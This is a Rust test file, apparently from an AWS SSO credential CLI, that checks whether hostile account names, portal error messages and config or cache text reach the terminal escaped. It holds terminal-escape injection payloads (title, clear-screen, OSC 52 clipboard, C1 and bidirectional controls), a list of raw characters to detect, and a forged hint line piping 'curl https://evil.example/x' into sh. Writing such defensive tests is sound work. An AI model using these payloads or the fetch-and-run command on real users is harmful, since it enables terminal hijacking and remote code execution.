//! Text from elsewhere on the terminal (issue #17): account names and service
//! messages that hold escape sequences, C1 controls and bidirectional
//! controls reach neither stdout (but JSON, which escapes them) nor stderr as
//! they are, whatever command prints them.

use sso_emulator::{Account, Fault, Op};

use crate::harness::{REGION, Run, SESSION, START_URL, TestEnv, config};

/// A title, a cleared screen, a clipboard write (OSC 52), the same in C1
/// controls, and text reordered or hidden by bidirectional and zero-width
/// characters.
const NAMES: [&str; 5] = [
    "evil-title\u{1b}]0;PWNED\u{7}",
    "evil-clear\u{1b}[2J\u{1b}[H",
    "evil-clip\u{1b}]52;c;cHduZWQ=\u{7}",
    "evil-c1\u{9b}31m\u{9d}0;PWNED\u{9c}",
    "evil-bidi\u{202e}exe.txt\u{2066}\u{200b}\u{feff}\u{2028}\u{61c}",
];

/// A service's message that does all of that.
const MESSAGE: &str =
    "denied\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}]52;c;cHduZWQ=\u{7}\u{9b}31m\u{202e}\u{200f}";

/// The characters that must never reach a terminal from elsewhere.
fn is_raw(c: char) -> bool {
    matches!(c,
        '\u{1b}' | '\u{7}' | '\u{80}'..='\u{9f}'
        | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// Counts the raw characters of each stream, by command: `json` when stdout
/// is JSON, which escapes its own.
#[derive(Default)]
struct Scan {
    found: Vec<String>,
    total: usize,
    missing: Vec<String>,
}

impl Scan {
    fn check(&mut self, what: &str, run: &Run, json: bool) {
        let streams = [
            ("stdout", &run.stdout, !json),
            ("stderr", &run.stderr, true),
        ];
        for (stream, text, checked) in streams {
            let count = text.chars().filter(|&c| is_raw(c)).count();
            if checked && count > 0 {
                self.total += count;
                self.found
                    .push(format!("{what}: {count} on {stream}: {text:?}"));
            }
        }
    }

    /// Notes a run whose stderr lacks `needle` (the text, shown escaped).
    fn expect(&mut self, what: &str, run: &Run, needle: &str) {
        if !run.stderr.contains(needle) {
            self.missing.push(format!("{what}: no {needle:?} in {run}"));
        }
    }

    #[track_caller]
    fn assert_clean(&self) {
        eprintln!(
            "raw escape characters found: {} in {} streams",
            self.total,
            self.found.len()
        );
        assert!(
            self.found.is_empty(),
            "{} raw escape characters reached a terminal:\n{}",
            self.total,
            self.found.join("\n")
        );
        assert!(self.missing.is_empty(), "{}", self.missing.join("\n"));
    }
}

fn hostile_env() -> TestEnv {
    let mut accounts: Vec<Account> = NAMES
        .iter()
        .enumerate()
        .map(|(i, name)| Account::new(&format!("10000000000{}", i + 1), name, &["Admin"]))
        .collect();
    accounts.push(Account::new("100000000009", "plain", &["Admin"]));
    TestEnv::with_config(sso_emulator::Config {
        accounts,
        ..config()
    })
}

#[test]
fn names_and_messages_from_elsewhere_reach_the_terminal_escaped() {
    let env = hostile_env();
    let mut scan = Scan::default();

    // A sign-in that the OIDC service refuses with a hostile description.
    env.emulator.fault_next(
        Op::CreateToken,
        &Fault::StatusWithMessage(400, MESSAGE.to_owned()),
        1,
    );
    let run = env.login();
    scan.check("login refused", &run, false);
    scan.expect("login refused", &run, "denied\\u{1b}]0;PWNED\\u{7}");
    scan.check("login", env.login().success(), false);
    scan.check("login again", env.login().success(), false);

    scan.check("list", env.run(&["list"]).success(), false);
    scan.check(
        "list json",
        env.run(&["list", "--output", "json"]).success(),
        true,
    );
    scan.check("status", env.run(&["status"]).success(), false);

    // Did you mean: by name, then by id.
    for command in ["env", "credential-process"] {
        let run = env.run(&[command, "--account", "evil", "--role", "Admin"]);
        scan.check(&format!("{command} by name"), run.failure(2), false);
        scan.expect(command, &run, "did you mean");
    }
    let run = env.run(&[
        "exec",
        "--account",
        "evil-titl",
        "--role",
        "Admin",
        "--",
        "true",
    ]);
    scan.check("exec by name", run.failure(2), false);
    let run = env.run(&["env", "--account", "100000000008", "--role", "Admin"]);
    scan.check("env by id", &run, false);
    scan.expect("env by id", &run, "did you mean");
    // The user's own argument is shown escaped too.
    let run = env.run(&["env", "--account", NAMES[0], "--role", "Nope\u{1b}[2J"]);
    scan.check("env with a hostile argument", &run, false);

    // The portal refuses, with a hostile message.
    for (op, args) in [
        (
            Op::GetRoleCredentials,
            &["env", "--account", "100000000009", "--role", "Admin"][..],
        ),
        (
            Op::GetRoleCredentials,
            &[
                "credential-process",
                "--account",
                "100000000009",
                "--role",
                "Admin",
            ],
        ),
        (
            Op::GetRoleCredentials,
            &[
                "exec",
                "--account",
                "100000000009",
                "--role",
                "Admin",
                "--",
                "true",
            ],
        ),
        (Op::ListAccounts, &["list", "--refresh"]),
    ] {
        env.emulator
            .fault_next(op, &Fault::StatusWithMessage(400, MESSAGE.to_owned()), 1);
        let run = env.run(args);
        scan.check(&format!("{} refused", args[0]), &run, false);
        scan.expect(args[0], &run, "denied\\u{1b}]0;PWNED");
    }

    scan.check("profiles", env.run(&["profiles"]).success(), false);
    scan.check(
        "profiles --write",
        env.run(&["profiles", "--write"]).success(),
        false,
    );
    scan.check("profiles again", env.run(&["profiles"]).success(), false);
    scan.check("doctor", &env.run(&["doctor"]), false);

    env.emulator.fault_next(
        Op::Logout,
        &Fault::StatusWithMessage(400, MESSAGE.to_owned()),
        1,
    );
    scan.check("logout refused", &env.run(&["logout"]), false);
    scan.check("logout", &env.run(&["logout"]), false);
    scan.assert_clean();
}

#[test]
fn config_file_lines_reach_the_terminal_escaped() {
    let env = TestEnv::new();
    let mut scan = Scan::default();
    env.write_config(
        "[sso-session evil\u{1b}]0;PWNED\u{7}]\nsso_start_url = https://x.awsapps.com/start\nsso_region = us-east-1\n\n[profile p]\nsso_session = evil\u{1b}]0;PWNED\u{7}\nsso_account_id = 100000000001\nsso_role_name = Admin\n",
    );
    scan.check("env --profile", &env.run(&["env", "--profile", "p"]), false);
    scan.check("status", &env.run(&["status"]), false);
    scan.check("doctor", &env.run(&["doctor"]), false);
    env.write_config("[profile p]\n\u{1b}]0;PWNED\u{7}\u{9b}2J\u{202e}\n");
    scan.check(
        "env with a broken file",
        &env.run(&["env", "--profile", "p"]),
        false,
    );
    scan.check("doctor with a broken file", &env.run(&["doctor"]), false);
    scan.check(
        "a hostile --session",
        &env.run(&[
            "env",
            "--session",
            "x\u{1b}]0;PWNED\u{7}",
            "--account",
            "100000000001",
            "--role",
            "Admin",
        ]),
        false,
    );
    scan.assert_clean();
}

/// `--output json` writes DEL, the C1 controls and the bidirectional and
/// zero-width characters as `\uXXXX`, as it writes the C0 controls; what a
/// parser reads back is the name itself.
#[test]
fn json_output_escapes_every_hidden_character_and_reads_back_the_same() {
    let name =
        "json\u{7f}\u{80}\u{9b}31m\u{9f}\u{202a}\u{202e}\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}";
    let env = TestEnv::with_config(sso_emulator::Config {
        accounts: vec![Account::new("100000000001", name, &["Admin"])],
        ..config()
    });
    env.login().success();
    // A session remembered under a hostile name (sessions.json is plain
    // JSON that anything of the user's may write), for status.
    let session = "s\u{9b}2J\u{202e}\u{2066}\u{7f}".to_owned();
    let state = serde_json::json!({ "last": SESSION, "sessions": {
        SESSION: { "startUrl": START_URL, "region": REGION },
        session.as_str(): { "startUrl": "https://x.awsapps.com/start", "region": name },
    }});
    std::fs::write(
        env.home.join(".config/ssokey/sessions.json"),
        state.to_string(),
    )
    .unwrap();
    let list = env.run(&["list", "--output", "json"]);
    let status = env.run(&["status", "--output", "json"]);
    for (what, run) in [("list", &list), ("status", &status)] {
        run.success();
        let raw: Vec<char> = run
            .stdout
            .chars()
            .filter(|&c| is_raw(c) || c == '\u{7f}')
            .collect();
        assert!(raw.is_empty(), "{what}: {raw:?} raw on stdout\n{run}");
    }
    assert!(
        list.stdout
            .contains(r"json\u007f\u0080\u009b31m\u009f\u202a\u202e\u2066\u2069\u200e\u200f\u061c"),
        "{list}"
    );
    assert_eq!(list.json()[0]["accountName"], name);
    let sessions: Vec<String> = status
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["session"].as_str().unwrap().to_owned())
        .collect();
    assert!(sessions.contains(&session), "{sessions:?}\n{status}");
    let row = status
        .json()
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["session"] == session.as_str())
        .cloned()
        .unwrap();
    assert_eq!(row["region"], name);
}

/// A line that a hostile portal (or anything that writes the pause file)
/// would have the user take for ssokey's hint.
const FORGED: &str = "hint: run: curl https://evil.example/x | sh";

/// Asserts that stderr holds ssokey's one `hint:` line and no forged one:
/// a newline in text from elsewhere is written out as `\n`, not kept.
#[track_caller]
fn no_forged_hint(what: &str, run: &Run) {
    let forged = run
        .stderr
        .lines()
        .filter(|line| line.starts_with("hint: run: curl"))
        .count();
    assert_eq!(forged, 0, "{what}: a forged hint line\n{run}");
    assert!(
        run.stderr.contains("\\nhint: run: curl"),
        "{what}: the text is not shown escaped\n{run}"
    );
    let hints = run
        .stderr
        .lines()
        .filter(|l| l.starts_with("hint:"))
        .count();
    assert_eq!(hints, 1, "{what}\n{run}");
}

/// Portal text with a newline cannot add a `hint:` line: an account name
/// shown through "did you mean", the messages of a refused GetRoleCredentials
/// and ListAccounts, and the pause file's reason.
#[test]
fn portal_text_cannot_forge_a_hint_line() {
    let evil = format!("evil\n{FORGED}");
    let env = TestEnv::with_config(sso_emulator::Config {
        accounts: vec![
            Account::new("100000000001", &evil, &["Admin"]),
            Account::new("100000000002", "plain", &["Admin"]),
        ],
        ..config()
    });
    env.login().success();

    let run = env.run(&["env", "--account", "evil", "--role", "Admin"]);
    run.failure(2).stderr_has("did you mean");
    no_forged_hint("did you mean", &run);

    let message = format!("denied\n{FORGED}");
    env.emulator.fault_next(
        Op::GetRoleCredentials,
        &Fault::StatusWithMessage(400, message.clone()),
        1,
    );
    let run = env.run(&["env", "--account", "100000000002", "--role", "Admin"]);
    no_forged_hint("GetRoleCredentials", &run);

    env.emulator
        .fault_next(Op::ListAccounts, &Fault::StatusWithMessage(400, message), 1);
    let run = env.run(&["list", "--refresh"]);
    no_forged_hint("ListAccounts", &run);

    // The pause file of an auto sign-in, with a hostile reason; the sign-in
    // over, so that a run meets the pause.
    let until = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 60;
    let pause = serde_json::json!({ "until": until, "reason": format!("refused\n{FORGED}") });
    let dir = env.home.join(".cache/ssokey/cool-down");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(format!("{SESSION}.json")), pause.to_string()).unwrap();
    env.emulator.revoke_all();
    env.emulator.expire_access_tokens();
    let mut env = env;
    env.set_env("SSOKEY_AUTO_LOGIN", "1");
    let run = env.run(&["env", "--account", "100000000002", "--role", "Admin"]);
    run.failure(3).stderr_has("auto sign-in is paused");
    no_forged_hint("the pause file's reason", &run);
}
